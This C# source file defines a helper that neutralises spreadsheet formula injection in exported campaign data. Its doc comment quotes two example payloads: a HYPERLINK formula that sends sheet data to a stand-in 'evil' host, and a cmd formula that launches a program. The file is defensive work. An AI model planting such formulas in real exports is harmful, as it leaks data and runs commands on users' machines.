namespace CampaignDesk.Core.Exports;

/// <summary>
/// Defuses spreadsheet formula injection (OWASP "CSV injection"). Exported text comes from people outside the team
/// (an official's name, a note typed into the outreach log): a cell such as <c>=HYPERLINK("http://evil/?"&amp;A2)</c>
/// or <c>=cmd|' /C calc'!A0</c> would be evaluated when a coordinator opens the export in Excel or LibreOffice,
/// leaking the sheet or running a command. Text that a spreadsheet would read as a formula gets a leading apostrophe,
/// which Excel and LibreOffice treat as "this is text" and which survives a re-save as CSV.
/// </summary>
/// <remarks>
/// Only text is guarded: numbers are written as numeric cells, so a negative number stays a number and is never
/// parsed as a formula. The apostrophe is visible in the cell, which OWASP accepts as the price of safety.
/// </remarks>
public static class FormulaGuard
{
    /// <summary>
    /// Prefixes <paramref name="text"/> with <c>'</c> when it starts, possibly after spaces, with one of the OWASP
    /// triggers <c>=</c> <c>+</c> <c>-</c> <c>@</c> tab or carriage return; returns any other text unchanged.
    /// </summary>
    public static string Neutralise(string text)
    {
        ArgumentNullException.ThrowIfNull(text);
        // Excel ignores leading spaces before evaluating " =1+1", so they do not hide a trigger.
        var first = text.AsSpan().TrimStart(' ');
        return !first.IsEmpty && first[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + text : text;
    }
}
